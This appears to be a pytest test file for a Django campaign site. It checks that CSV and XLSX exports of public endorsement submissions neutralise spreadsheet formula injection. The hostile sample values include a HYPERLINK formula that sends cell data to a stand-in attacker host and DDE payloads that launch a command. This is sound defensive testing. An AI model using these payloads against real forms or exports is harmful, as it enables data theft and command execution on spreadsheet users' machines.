"""The endorsement exports open safely in a spreadsheet: what a signer typed into the public
form never runs as a formula, in CSV (a leading apostrophe, the OWASP rule) or XLSX (cells
written as text)."""

import csv
import io
import zipfile

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group, Permission
from openpyxl import load_workbook

from campaigns.factories import EndorsementFactory

pytestmark = pytest.mark.django_db

LIST_URL = "/admin/snippets/campaigns/endorsement/"

# What a hostile signer could type, in fields the export carries.
HOSTILE = {
    "organisation": '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "city": "+1+cmd|' /C calc'!A0",
    "contact_name": "-2+3+cmd|' /C calc'!A0",
    "contact_role": "@SUM(1+1)*cmd|' /C calc'!A0",
}
# Tab and carriage return at the start also start a formula in some spreadsheets.
CONTROL = {"city": "\t=1+1", "contact_name": "\r=1+1"}


@pytest.fixture
def contact_moderator(client):
    """A moderator allowed to see signers' contacts, hence the export, signed in."""
    user = get_user_model().objects.create_user("exporter", "exporter@example.org", "pw")
    group = Group.objects.create(name="Exporters")
    for codename in ("access_admin", "view_endorsement", "view_signer_contact"):
        group.permissions.add(Permission.objects.get(codename=codename))
    user.groups.add(group)
    client.force_login(user)
    return client


def csv_rows(client):
    response = client.get(LIST_URL + "?export=csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text, newline="")))


def xlsx_sheet(client):
    response = client.get(LIST_URL + "?export=xlsx")
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    return content, load_workbook(io.BytesIO(content)).active


def test_csv_export_neutralises_formulas(contact_moderator, campaign):
    EndorsementFactory(campaign_key=campaign.translation_key, **HOSTILE)
    EndorsementFactory(campaign_key=campaign.translation_key, organisation="Ciudad", **CONTROL)
    EndorsementFactory(
        campaign_key=campaign.translation_key,
        organisation="Town of A=B",
        city="Saint-Denis",
        contact_name="Ana - deputy",
        email="plain@example.org",
    )
    rows = {row["Organisation"]: row for row in csv_rows(contact_moderator)}

    hostile = rows["'" + HOSTILE["organisation"]]
    assert hostile["City"] == "'" + HOSTILE["city"]
    assert hostile["Contact name"] == "'" + HOSTILE["contact_name"]
    assert hostile["Contact's role"] == "'" + HOSTILE["contact_role"]

    control = rows["Ciudad"]
    assert control["City"] == "'" + CONTROL["city"]
    assert control["Contact name"] == "'" + CONTROL["contact_name"]

    # Only a formula's first character counts: ordinary text keeps its signs untouched.
    plain = rows["Town of A=B"]
    assert (plain["City"], plain["Contact name"]) == ("Saint-Denis", "Ana - deputy")
    assert plain["Email"] == "plain@example.org"
    # Every cell of every row: none starts a formula.
    for row in rows.values():
        assert not any(str(cell)[:1] in "=+-@\t\r" for cell in row.values() if cell)


def test_xlsx_export_writes_formulas_as_text(contact_moderator, campaign):
    EndorsementFactory(campaign_key=campaign.translation_key, **HOSTILE)
    content, sheet = xlsx_sheet(contact_moderator)

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml

    headings, *rows = sheet.iter_rows(values_only=True)
    row = dict(zip(headings, rows[0], strict=True))
    # XLSX types the cell as text, so the signer's words stay exactly as typed.
    assert row["Organisation"] == HOSTILE["organisation"]
    assert row["City"] == HOSTILE["city"]
    assert row["Contact name"] == HOSTILE["contact_name"]
